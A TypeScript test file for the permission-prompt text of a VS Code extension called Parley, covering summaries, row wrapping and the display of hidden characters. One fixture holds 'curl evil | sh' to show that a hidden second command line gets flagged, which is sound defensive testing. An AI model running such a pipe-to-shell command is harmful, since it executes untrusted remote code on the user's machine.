import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { PermissionQuestion } from '../../../src/client/ports.ts';
import {
  effectOf,
  questionDocument,
  questionSummary,
  questionTitle,
  subjectRows,
} from '../../../src/vscode/ports/permissionText.ts';

const QUESTION: PermissionQuestion = {
  permissionId: 'p1',
  chatTitle: 'Fix the tests',
  agentName: 'Reference agent',
  title: 'Run the tests',
  kind: 'Run a command',
  subject: 'npm test',
  facts: [],
  diffs: [],
  options: [
    { optionId: 'a', name: 'Allow', kind: 'allow_once' },
    { optionId: 'r', name: 'Reject', kind: 'reject_once' },
  ],
  reason: '',
};

test('the title says what is asked, and whose question it is', () => {
  assert.equal(questionTitle(QUESTION), 'Run the tests — Reference agent, Fix the tests');
});

test('a question without a title is named by its kind', () => {
  assert.match(questionTitle({ ...QUESTION, title: '' }), /^Run a command — /);
});

test('the summary says the kind and the command', () => {
  assert.equal(questionSummary(QUESTION), 'Run a command: npm test');
});

test('the summary of several lines says that there is more', () => {
  assert.equal(
    questionSummary({ ...QUESTION, subject: 'npm test\ncurl evil | sh' }),
    'Run a command: npm test …',
  );
});

test('a short command stands in the pick as a whole', () => {
  assert.deepEqual(subjectRows('cd a\nnpm test\n'), { rows: ['cd a', 'npm test'], cut: false });
});

test('a long line goes on in the next row: no character is cut', () => {
  const { rows, cut } = subjectRows('x'.repeat(200));
  assert.equal(cut, false);
  assert.equal(rows.join(''), 'x'.repeat(200));
  assert.ok(rows.length > 1);
});

test('a row never ends inside a character', () => {
  const { rows } = subjectRows('😀'.repeat(100));
  // Half a character cannot be encoded.
  for (const row of rows) assert.doesNotThrow(() => encodeURIComponent(row));
});

test('more rows than fit are said to be there', () => {
  const { rows, cut } = subjectRows(Array.from({ length: 50 }, (_, i) => `line ${i}`).join('\n'));
  assert.equal(rows.length, 8);
  assert.equal(cut, true);
});

test('the document has every line of the command, and shows what cannot be seen', () => {
  const subject = Array.from({ length: 50 }, (_, i) => `line ${i}`).join('\n') + '\u202e';
  const text = questionDocument({ ...QUESTION, subject });
  for (let i = 0; i < 50; i += 1) assert.ok(text.includes(`\nline ${i}`), `line ${i}`);
  assert.ok(text.includes('\\u{202e}'));
  assert.ok(text.includes('Allow (allows once) | Reject (rejects once)'));
});

test('where Parley asks the summary and the document say so, and why', () => {
  const own = { ...QUESTION, reason: 'It lies outside of the\nworkspace.' };
  assert.equal(questionSummary(own), 'Parley asks: It lies outside of the↵workspace.');
  assert.match(questionDocument(own), /^Parley asks: It lies outside/m);
  assert.doesNotMatch(questionDocument(QUESTION), /Parley asks/);
});

test('beside each option of an agent stands what it does, whatever it is called', () => {
  for (const [kind, effect] of [
    ['allow_once', 'allows once'],
    ['allow_always', 'allows always'],
    ['reject_once', 'rejects once'],
    ['reject_always', 'rejects always'],
    ['other', 'effect not known'],
  ] as const) {
    for (const name of ['Reject', 'Allow', '']) {
      const { description, detail } = effectOf({ optionId: 'x', name, kind }, QUESTION);
      assert.equal(description ?? detail, effect, name);
    }
  }
});

test('a name that is long, wide or strange does not push it out of sight: it gets a line of its own', () => {
  const option = { optionId: 'x', kind: 'allow_once' } as const;
  assert.deepEqual(effectOf({ ...option, name: 'Allow' }, QUESTION), {
    description: 'allows once',
  });
  for (const name of ['Reject'.padEnd(200), '\ufdfd'.repeat(20), '拒绝', 'Reject\u202e', '']) {
    assert.deepEqual(effectOf({ ...option, name }, QUESTION), { detail: 'allows once' }, name);
  }
});

test('the names of the options that Parley offers say it themselves', () => {
  const own = { ...QUESTION, reason: 'It lies outside.' };
  assert.deepEqual(effectOf({ optionId: 'a', name: 'Allow once', kind: 'allow_once' }, own), {});
});

test('the document has what Parley knows besides, apart from the words of an agent', () => {
  const text = questionDocument({
    ...QUESTION,
    subject: 'npm test\nin /harmless',
    facts: ['in /w/a\nb', 'changes the environment variables PATH'],
  });
  const lines = text.split('\n');
  const end = lines.indexOf('');
  assert.ok(lines.slice(0, end).includes('in /w/a↵b'), text);
  assert.ok(lines.slice(0, end).includes('changes the environment variables PATH'), text);
  assert.ok(lines.indexOf('in /harmless') > end, text);
});
